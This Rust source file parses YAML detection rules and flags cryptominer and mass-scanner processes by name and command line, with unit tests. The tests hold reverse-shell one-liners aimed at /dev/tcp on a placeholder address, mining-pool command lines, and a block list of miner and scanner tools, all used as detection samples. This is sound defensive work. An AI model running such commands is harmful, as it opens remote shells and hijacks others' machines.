//! Detection rules in the format operators already have.
//!
//! The `detectionRules` section of an existing agent's file works unchanged. It is read strictly, because a misspelt
//! key there silently exempts a miner; the file's other sections steer features this agent does not have.

use regex::Regex;
use serde::Deserialize;

/// Why a rules file was refused.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    /// Not YAML, or not of the expected shape; the source says where.
    #[error("cannot read the rules: {0}")]
    Shape(#[from] serde_saphyr::Error),
    /// The file has no `detectionRules`, so nothing could ever be detected.
    #[error("the rules have no section `detectionRules`")]
    Missing,
    /// An entry is no regular expression.
    #[error("{place}: `{pattern}` is not a regular expression this agent understands: {source}")]
    Pattern {
        /// The entry's path within the file.
        place: String,
        /// The entry as written.
        pattern: String,
        /// What is wrong with it.
        source: Box<regex::Error>,
    },
    /// An entry is empty, which would match everything.
    #[error("{place}: an empty pattern would match everything")]
    Empty {
        /// The entry's path within the file.
        place: String,
    },
}

/// A process broke a rule.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// Text of the process pattern; empty when a keyword of the command line matched.
    pub regex: String,
}

/// What to look for, and whom to leave alone. All patterns are regular expressions without implied anchors.
#[derive(Clone, Debug)]
pub struct Rules {
    processes: Vec<Regex>,
    keywords: Vec<Regex>,
    exempt_processes: Vec<Regex>,
    exempt_commands: Vec<Regex>,
    exempt_namespaces: Vec<Regex>,
    exempt_pods: Vec<Regex>,
}

impl Rules {
    /// Reads the `detectionRules` of a rules file; its other top-level sections are ignored.
    pub fn from_yaml(text: &str) -> Result<Self, RulesError> {
        let File { detection_rules } = serde_saphyr::from_str(text)?;
        let Detection { blacklist, whitelist } = detection_rules.ok_or(RulesError::Missing)?;
        let Blacklist { processes, keywords } = blacklist.unwrap_or_default();
        let exempt = whitelist.unwrap_or_default();
        Ok(Self {
            processes: compile("blacklist.processes", processes)?,
            keywords: compile("blacklist.keywords", keywords)?,
            exempt_processes: compile("whitelist.processes", exempt.processes)?,
            exempt_commands: compile("whitelist.commands", exempt.commands)?,
            exempt_namespaces: compile("whitelist.namespaces", exempt.namespaces)?,
            exempt_pods: compile("whitelist.podNames", exempt.pod_names)?,
        })
    }

    /// Judges a process by its name and its whole command line. Names are tried before keywords.
    pub fn judge(&self, process: &str, cmdline: &str) -> Option<Hit> {
        let regex = match self.processes.iter().find(|pattern| pattern.is_match(process)) {
            Some(pattern) => pattern.as_str().to_owned(),
            None if any(&self.keywords, cmdline) => String::new(),
            None => return None,
        };
        let exempt = any(&self.exempt_processes, process) || any(&self.exempt_commands, cmdline);
        (!exempt).then_some(Hit { regex })
    }

    /// Whether everything in this pod is exempt, by its namespace or its name.
    pub fn exempts_pod(&self, namespace: &str, pod: &str) -> bool {
        any(&self.exempt_namespaces, namespace) || any(&self.exempt_pods, pod)
    }
}

impl Default for Rules {
    /// A short list of miners and mass scanners, and two command lines that only they have. Names are whole and
    /// keywords demand the option in front, so that an editor or a search that mentions one stays unharmed.
    fn default() -> Self {
        let built_in = Self::from_yaml(include_str!("rules.yaml"));
        debug_assert!(built_in.is_ok(), "the built-in rules are tested");
        built_in.unwrap_or(Self {
            processes: Vec::new(),
            keywords: Vec::new(),
            exempt_processes: Vec::new(),
            exempt_commands: Vec::new(),
            exempt_namespaces: Vec::new(),
            exempt_pods: Vec::new(),
        })
    }
}

fn any(patterns: &[Regex], text: &str) -> bool {
    patterns.iter().any(|pattern| pattern.is_match(text))
}

fn compile(list: &str, patterns: Option<Vec<String>>) -> Result<Vec<Regex>, RulesError> {
    let compile_one = |(index, pattern): (usize, String)| {
        let place = format!("detectionRules.{list}[{index}]");
        if pattern.is_empty() {
            return Err(RulesError::Empty { place });
        }
        Regex::new(&pattern).map_err(|source| RulesError::Pattern {
            place,
            pattern,
            source: Box::new(source),
        })
    };
    patterns.unwrap_or_default().into_iter().enumerate().map(compile_one).collect()
}

// Sections and lists are optional rather than defaulted: operators comment out all entries and leave the bare key.

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct File {
    detection_rules: Option<Detection>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Detection {
    blacklist: Option<Blacklist>,
    whitelist: Option<Whitelist>,
}

#[derive(Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Blacklist {
    processes: Option<Vec<String>>,
    keywords: Option<Vec<String>>,
}

#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
struct Whitelist {
    processes: Option<Vec<String>>,
    commands: Option<Vec<String>>,
    namespaces: Option<Vec<String>>,
    pod_names: Option<Vec<String>>,
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = r#"
scanner: {proc_path: /host/proc, scan_interval: 100s}
actions: {label: {enabled: false}}
detectionRules:
  blacklist:
    processes: ["^miner$", scan]
    keywords: ['stratum\+tcp://']
  whitelist:
    processes: [^goodscan$]
    commands: [--dry-run]
    namespaces: [^kube-]
    podNames: ['^debug-']
"#;

    fn hit(regex: &str) -> Hit {
        Hit { regex: regex.to_owned() }
    }

    #[test]
    fn names_and_command_lines_are_matched_unanchored() {
        let rules = Rules::from_yaml(FILE).unwrap();
        assert_eq!(rules.judge("miner", "/bin/miner"), Some(hit("^miner$")));
        assert_eq!(rules.judge("portscanner", "portscanner 10.0.0.0/8"), Some(hit("scan")));
        assert_eq!(rules.judge("a", "a -o stratum+tcp://b"), Some(hit("")));
        assert_eq!(
            rules.judge("miner", "miner -o stratum+tcp://b"),
            Some(hit("^miner$")),
            "names come first"
        );
        assert_eq!(rules.judge("bash", "bash -c miner"), None, "a name rule does not read the arguments");
    }

    #[test]
    fn any_exemption_is_enough() {
        let rules = Rules::from_yaml(FILE).unwrap();
        assert_eq!(rules.judge("goodscan", "goodscan"), None);
        assert_eq!(rules.judge("miner", "miner --dry-run"), None);
        assert!(rules.exempts_pod("kube-system", "x"));
        assert!(rules.exempts_pod("ns-a", "debug-1"));
        assert!(!rules.exempts_pod("ns-a", "web-debug-1"));
    }

    #[test]
    fn bare_keys_are_empty_lists() {
        let rules = Rules::from_yaml("detectionRules: {blacklist: {processes: }, whitelist: }").unwrap();
        assert_eq!(rules.judge("xmrig", "xmrig"), None);
    }

    #[test]
    fn errors_name_the_place() {
        let error = |text: &str| Rules::from_yaml(text).unwrap_err().to_string();
        let bad = error("detectionRules: {blacklist: {keywords: [fine, 'open(']}}");
        assert!(bad.starts_with("detectionRules.blacklist.keywords[1]: `open(` is not"), "{bad}");
        let empty = error("detectionRules: {whitelist: {namespaces: ['']}}");
        assert!(empty.contains("whitelist.namespaces[0]: an empty pattern"), "{empty}");
        let misspelt = error("detectionRules:\n  blacklist:\n    procesess: [x]");
        assert!(misspelt.contains("procesess") && misspelt.contains("line 3"), "{misspelt}");
        assert!(error("scanner: {}").contains("`detectionRules`"));
        assert!(error("detectionRules: [").starts_with("cannot read the rules"));
    }

    #[test]
    fn the_built_in_rules_hit_offenders_and_nobody_else() {
        let rules = Rules::default();
        for guilty in ["xmrig", "minerd", "masscan", "zmap"] {
            assert_eq!(rules.judge(guilty, guilty), Some(hit(&format!("^{guilty}$"))));
        }
        for guilty in [
            "./a -o stratum+tcp://pool.example.com:3333 -u 4Ad",
            "node --url=stratum+ssl://pool.example.com",
            "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "/bin/sh -i 2>&1 >/dev/tcp/192.0.2.1/4444",
        ] {
            assert_eq!(rules.judge("x", guilty), Some(hit("")), "{guilty}");
        }
        for innocent in [
            "procscan agent --simulate 4",
            "cargo test -p procscan-agent xmrig",
            "vim xmrig.md",
            "grep -rn stratum+tcp:// src",
            "grep -e bash -i >& /dev/tcp/1.2.3.4/5",
            "bash -i",
        ] {
            let name = innocent.split_whitespace().next().unwrap();
            assert_eq!(rules.judge(name, innocent), None, "{innocent}");
        }
    }
}
